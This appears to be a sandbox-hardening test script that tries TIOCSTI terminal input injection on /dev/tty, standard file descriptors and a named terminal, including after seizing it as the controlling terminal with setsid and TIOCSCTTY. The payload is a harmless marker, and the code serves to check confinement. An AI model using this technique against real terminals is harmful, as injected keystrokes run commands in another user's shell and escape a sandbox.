# TIOCSTI: pushes characters into a terminal's input queue, as if typed there (in a teacher's
# shell: a command). The test holds a terminal, with a session of its own, and names it. Tried
# on /dev/tty, on stdin/stdout/stderr, on the named terminal as is, and after making it the
# controlling terminal (setsid, then open, then TIOCSCTTY, which steals it when privileged).
import fcntl
import os
import termios

from hostile import INFO, attempt, finish, note

PAYLOAD = b"HOSTILE-TIOCSTI"


def inject(fd):
    for byte in PAYLOAD:
        fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
    return True


def on_path(path, flags=os.O_RDWR | os.O_NOCTTY):
    def go():
        fd = os.open(path, flags)
        inject(fd)
        return "pushed input into " + path
    return go


def on_fd(fd):
    def go():
        inject(fd)
        return "pushed input into fd %d (%s)" % (fd, os.readlink("/proc/self/fd/%d" % fd))
    return go


def as_controlling(path):
    def go():
        os.setsid()
        fd = os.open(path, os.O_RDWR)
        try:
            fcntl.ioctl(fd, termios.TIOCSCTTY, 1)
            note("made %s the controlling terminal" % path)
        except OSError as e:
            note("TIOCSCTTY on %s: %s" % (path, e))
        inject(fd)
        return "pushed input into %s after taking it as the controlling terminal" % path
    return go


attempt("/dev/tty", on_path("/dev/tty", os.O_RDWR))
for fd in (0, 1, 2):
    attempt("fd %d" % fd, on_fd(fd))
tty = INFO.get("tty", "")
if tty:
    attempt(tty, on_path(tty))
    attempt(tty + " as controlling terminal", as_controlling(tty))
finish()
